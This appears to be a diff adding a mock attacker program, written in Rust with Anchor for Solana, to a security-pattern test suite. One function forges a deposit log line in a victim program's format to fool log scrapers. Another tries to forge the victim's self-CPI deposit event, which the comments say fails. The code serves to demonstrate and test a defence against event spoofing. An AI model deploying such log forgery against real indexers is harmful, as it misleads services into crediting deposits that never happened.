@@ -0,0 +1,66 @@
+//! Stands in for a program the attacker deployed.
+//!
+//! Not a pattern program: it prints the exact line pattern 61's vulnerable
+//! deposit logs, without moving any funds, and tries to fake 61's self-CPI
+//! event by invoking it with event data. The first fools a log scraper; the
+//! second fails because only 61 can sign for its event authority.
+
+use anchor_lang::event::EVENT_IX_TAG_LE;
+use anchor_lang::prelude::*;
+use anchor_lang::solana_program::{
+    hash::hash,
+    instruction::{AccountMeta, Instruction},
+    program::invoke,
+};
+
+declare_id!("6WL62zV8DhNjM1HHS3Q5pYjr8ZLw7B2dVRw1YkZheSvm");
+
+#[program]
+pub mod mock_log_forger {
+    use super::*;
+
+    /// Prints a deposit line in the victim's format. Nothing is deposited.
+    pub fn forge_deposit_log(_ctx: Context<ForgeLog>, depositor: Pubkey, amount: u64) -> Result<()> {
+        msg!("Deposit: depositor={} amount={}", depositor, amount);
+        Ok(())
+    }
+
+    /// Invokes the victim with a well-formed `DepositEvent` self-CPI payload.
+    /// The event authority is passed but cannot be signed for from here.
+    pub fn forge_cpi_event(ctx: Context<ForgeCpiEvent>, depositor: Pubkey, amount: u64) -> Result<()> {
+        let mut data = EVENT_IX_TAG_LE.to_vec();
+        data.extend_from_slice(&hash(b"event:DepositEvent").to_bytes()[..8]);
+        data.extend_from_slice(depositor.as_ref());
+        data.extend_from_slice(&amount.to_le_bytes());
+        data.extend_from_slice(&amount.to_le_bytes());
+
+        let ix = Instruction {
+            program_id: ctx.accounts.victim_program.key(),
+            accounts: vec![AccountMeta::new_readonly(ctx.accounts.event_authority.key(), false)],
+            data,
+        };
+        invoke(
+            &ix,
+            &[
+                ctx.accounts.event_authority.to_account_info(),
+                ctx.accounts.victim_program.to_account_info(),
+            ],
+        )?;
+        Ok(())
+    }
+}
+
+#[derive(Accounts)]
+pub struct ForgeLog<'info> {
+    pub attacker: Signer<'info>,
+}
+
+#[derive(Accounts)]
+pub struct ForgeCpiEvent<'info> {
+    /// CHECK: the victim's `__event_authority` PDA; only the victim can sign for it.
+    pub event_authority: UncheckedAccount<'info>,
+    /// CHECK: the program whose events are being forged.
+    #[account(executable)]
+    pub victim_program: UncheckedAccount<'info>,
+    pub attacker: Signer<'info>,
+}